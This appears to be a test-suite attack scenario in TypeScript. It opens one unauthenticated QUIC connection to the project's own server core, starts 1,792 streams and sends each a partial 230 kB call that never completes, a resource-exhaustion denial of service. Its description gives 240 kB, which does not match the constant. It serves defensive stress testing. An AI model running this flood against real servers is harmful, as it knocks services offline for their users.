/** One connection to the core without a user fills the windows of all streams that QUIC offers. */

import { connect } from "../../../server-core/testing/quic.ts";
import type { Attack } from "../attack.ts";
import { pause } from "../pause.ts";

const streams = 1792;
/** Less than the call that each stream announces, so that none of them is ever whole. */
const bytesEach = 230_000;

export const attack: Attack = {
  what: "one address, nobody signed in, begins 1,792 calls of 240 kB on a connection and finishes none",
  async run({ core, coreCertificate }, signal) {
    const call = new Uint8Array(bytesEach);
    new DataView(call.buffer).setUint32(4, 30_000, true);
    while (!signal.aborted) {
      const connection = await connect(core, coreCertificate, "capnp", "127.0.2.1").catch(() => undefined);
      if (!connection) {
        await pause(200, signal);
        continue;
      }
      const begin = async () => {
        const { writable } = await connection.conn.createBidirectionalStream({ waitUntilAvailable: true });
        await writable.getWriter().write(call);
      };
      const begun = Array.from({ length: streams }, () => begin().catch(() => {}));
      await Promise.race([connection.conn.closed.catch(() => {}), pause(20_000, signal)]);
      connection.close();
      await Promise.all(begun);
      await pause(20, signal);
    }
  },
};
